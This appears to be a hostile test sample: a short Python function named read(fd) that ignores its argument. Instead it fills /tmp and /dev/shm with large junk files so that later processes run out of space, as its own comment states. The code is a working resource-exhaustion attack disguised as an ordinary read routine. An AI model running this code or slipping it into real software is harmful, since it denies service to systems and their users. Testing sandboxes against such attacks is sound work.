# tries: to fill /tmp and /dev/shm, so that nothing after it has room
def read(fd):
    for folder in ("/tmp", "/dev/shm"):
        for number in range(10):
            try:
                with open(f"{folder}/TOKEN{number}", "wb") as file:
                    for _ in range(64):
                        file.write(bytes(1 << 20))
            except OSError:
                break
    return b""
